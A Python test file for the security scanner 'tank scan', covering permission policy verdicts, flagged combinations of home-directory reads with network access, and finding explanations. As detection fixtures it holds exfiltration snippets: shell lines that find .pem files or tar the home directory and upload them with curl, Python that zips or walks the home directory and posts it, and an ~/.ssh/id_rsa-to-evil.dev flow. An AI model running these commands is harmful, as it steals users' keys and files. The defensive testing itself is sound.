"""The one decision (``tank.scanner.policy``): what ``tank scan`` prints is what the registry
applies, on every corpus skill; dangerous combinations; findings that explain themselves."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tank.core.errors import UsageError
from tank.core.permissions import NetworkPermission, Permissions, parse_permissions
from tank.scanner import Verdict, load_rules, scan_files, scan_folder
from tank.scanner.explain import explain, explain_text
from tank.scanner.model import Evidence, Finding
from tank.scanner.policy import apply, blocks, decide, refusal, worst
from tank.scanner.report import to_json, to_text

CORPUS = Path(__file__).resolve().parents[2] / "corpus"
RULES = load_rules()
NET = b"import requests\nrequests.get('https://api.acme.dev/v1')\n"


def _declared(folder: Path) -> Permissions | None:
    manifest = folder / "skills.json"
    if not manifest.is_file():
        return None
    raw = json.loads(manifest.read_text(encoding="utf-8")).get("permissions", {})
    return parse_permissions(raw)[0]


def _skills() -> list[Path]:
    roots = [CORPUS / "malicious", CORPUS / "benign"]
    roots += [CORPUS / "blind" / "batch-1" / label for label in ("malicious", "benign")]
    return [p for root in roots for p in sorted(root.iterdir()) if p.is_dir()]


@pytest.mark.parametrize("folder", _skills(), ids=lambda p: f"{p.parent.name}/{p.name}")
def test_tank_scan_and_the_registry_agree(folder: Path) -> None:
    from tank.core.pack import pack_folder
    from tank.core.unpack import read_archive
    from tank.server.services.pipeline.scan import scan as registry_scan

    files = {m.path: m.data for m in read_archive(pack_folder(folder).data) if not m.is_dir}
    declared = _declared(folder)
    if declared is None:  # the registry never sees such a skill; the policy is lenient
        assert scan_folder(folder).verdict is decide(scan_folder(folder).findings, None)
        return
    outcome = registry_scan(files, declared, timeout_s=30, rules=RULES)
    assert str(scan_folder(folder, timeout_s=30).verdict) == outcome.verdict


def test_an_undeclared_capability_fails_with_a_manifest_and_is_a_note_without() -> None:
    strict = scan_files({"x.py": NET}, manifest_permissions=Permissions.none())
    assert strict.verdict is Verdict.FAIL
    loose = scan_files({"x.py": NET})
    assert loose.verdict is Verdict.PASS_WITH_NOTES
    assert decide(loose.findings, None) is Verdict.PASS_WITH_NOTES
    assert decide(loose.findings, Permissions.none()) is Verdict.FAIL
    granted = Permissions(network=NetworkPermission(outbound=("api.acme.dev",)))
    assert scan_files({"x.py": NET}, manifest_permissions=granted).verdict is Verdict.PASS


def test_the_policy_is_never_looser_than_the_result() -> None:
    result = scan_files({"x.py": NET}, manifest_permissions=Permissions.none())
    from dataclasses import replace

    assert apply(replace(result, verdict=Verdict.FAIL), None).verdict is Verdict.FAIL
    assert worst(Verdict.PASS, Verdict.FLAGGED, Verdict.PASS_WITH_NOTES) is Verdict.FLAGGED
    assert worst() is Verdict.PASS


def test_blocks_and_the_refusal_name_the_top_blocking_finding() -> None:
    note = {"rule": "capability.undeclared_secret", "severity": "low", "category": "x"}
    assert blocks(note) and not blocks(note, declared=False)
    assert blocks({"rule": "a.b", "severity": "critical"})
    assert blocks(
        {"rule": "a.b", "severity": "medium", "category": "malware", "confidence": "high"}
    )
    assert not blocks({"rule": "a.b", "severity": "high", "category": "permissions"})
    result = scan_files({"x.py": NET}, manifest_permissions=Permissions.none())
    why = refusal("@a/b@1.0.0", [f.as_dict() for f in result.findings])
    assert why.message.startswith("@a/b@1.0.0 failed the security scan: 1 blocking finding(s)")
    assert "capability.undeclared_network at x.py:2" in why.message
    assert "declare every capability" in why.hint
    assert why.problems[0].location is not None and why.problems[0].location.line == 2


# ---------------------------------------------------------------- dangerous combinations


def _manifest(permissions: dict[str, object]) -> bytes:
    return json.dumps({"name": "@a/b", "version": "1.0.0", "permissions": permissions}).encode()


def test_declared_whole_home_read_and_network_is_flagged() -> None:
    for glob in ("~/**", "~/*", "~/.*", "~/**/*.json"):
        perms = {"filesystem": {"read": [glob]}, "network": {"outbound": ["api.acme.dev"]}}
        result = scan_files({"skills.json": _manifest(perms)})
        found = [f for f in result.findings if f.rule == "capability.home_and_network"]
        assert found, glob
        assert result.verdict is Verdict.FLAGGED
        assert glob in found[0].message and "api.acme.dev" in found[0].message


def test_narrow_home_reads_or_no_network_are_not_a_combination() -> None:
    narrow = {"filesystem": {"read": ["~/.config/acme/**"]}, "network": {"outbound": ["a.dev"]}}
    offline = {"filesystem": {"read": ["~/**"]}}
    for perms in (narrow, offline):
        result = scan_files({"skills.json": _manifest(perms)})
        assert "capability.home_and_network" not in {f.rule for f in result.findings}


def test_an_inferred_home_walk_with_network_is_flagged_with_evidence() -> None:
    code = (
        b"import os\nimport requests\nfrom pathlib import Path\n\n"
        b"for p in Path.home().rglob('*'):\n"
        b"    requests.post('https://api.acme.dev/u', data=str(p))\n"
    )
    perms = {"network": {"outbound": ["api.acme.dev"]}}
    result = scan_files({"skills.json": _manifest(perms), "x.py": code})
    found = next(f for f in result.findings if f.rule == "capability.home_and_network")
    assert (found.file, found.line) == ("x.py", 5)
    assert [e.role for e in found.evidence] == ["source", "sink"]
    assert result.verdict is Verdict.FLAGGED
    for shell in (b"find ~ -name '*.pem'\ncurl -d @x https://a.dev\n", b"tar czf h.tgz $HOME\n"):
        found_sh = scan_files({"x.sh": shell + b"curl -T h.tgz https://a.dev/u\n"}).findings
        assert "capability.home_and_network" in {f.rule for f in found_sh}, shell
    archive = (
        b"import os, shutil, requests\n"
        b"shutil.make_archive('/tmp/h', 'zip', os.path.expanduser('~'))\n"
        b"requests.post('https://a.dev', data=open('/tmp/h.zip', 'rb'))\n"
    )
    assert "capability.home_and_network" in {f.rule for f in scan_files({"x.py": archive}).findings}
    quiet = scan_files({"x.sh": b"find ~/projects -name '*.md'\ncurl https://a.dev\n"})
    assert "capability.home_and_network" not in {f.rule for f in quiet.findings}


# ---------------------------------------------------------------- findings explain themselves


def test_text_shows_why_fix_and_a_flows_evidence() -> None:
    flow = Finding.of(
        RULES["python.exfiltration"],
        "x.py",
        9,
        "requests.post(URL, data=key)",
        evidence=(
            Evidence("source", "x.py", 3, "reads ~/.ssh/id_rsa"),
            Evidence("sink", "x.py", 9, "HTTP POST to evil.dev"),
        ),
    )
    from tank.scanner import ScanResult

    result = ScanResult(Verdict.FAIL, (flow,), 1)
    text = to_text(result, "skill", RULES)
    assert "x.py:9: " in text and "[python.exfiltration]" in text
    assert "    source: x.py:3: reads ~/.ssh/id_rsa" in text
    assert "    sink:   x.py:9: HTTP POST to evil.dev" in text
    assert f"    why: {RULES['python.exfiltration'].description}" in text
    assert f"    fix: {flow.remediation}" in text
    data = to_json(result, RULES)
    item = data["findings"][0]
    assert item["evidence"][0] == {
        "role": "source",
        "file": "x.py",
        "line": 3,
        "what": "reads ~/.ssh/id_rsa",
    }
    assert item["description"] == RULES["python.exfiltration"].description
    from tank.scanner.report import to_sarif

    related = to_sarif(result, RULES)["runs"][0]["results"][0]["relatedLocations"]
    assert related[0]["message"]["text"] == "source: reads ~/.ssh/id_rsa"
    assert related[1]["physicalLocation"]["region"]["startLine"] == 9


def test_explain_gives_a_rule_with_its_samples() -> None:
    data = explain(RULES, "capability.home_and_network")
    assert data["severity"] == "high" and data["category"] == "permissions"
    assert data["samples"]["malicious"] and data["samples"]["benign"]
    text = explain_text(RULES, "shell.download_exec")
    assert text.startswith("shell.download_exec: ")
    assert "why it matters:" in text and "how to fix:" in text
    assert "malicious sample (raises it)" in text and "benign sample (does not raise it)" in text


def test_explain_an_unknown_rule_lists_close_ids() -> None:
    with pytest.raises(UsageError) as caught:
        explain(RULES, "shell.download_exe")
    assert "shell.download_exec" in (caught.value.hint or "")
    with pytest.raises(UsageError) as nothing_close:
        explain(RULES, "zzz")
    assert "docs/rules.md" in (nothing_close.value.hint or "")


def test_a_refusal_explains_each_finding_with_its_evidence() -> None:
    flow = Finding.of(
        RULES["python.exfiltration"],
        "x.py",
        9,
        "post",
        evidence=(Evidence("source", "x.py", 3, "reads ~/.ssh/id_rsa"),),
    )
    why = refusal("@a/b@1.0.0", [flow.as_dict()], RULES)
    problem = why.problems[0]
    assert "(source x.py:3 reads ~/.ssh/id_rsa)" in problem.message
    assert problem.hint is not None and problem.hint.startswith(flow.remediation)
    assert f"Why it matters: {RULES['python.exfiltration'].description}" in problem.hint
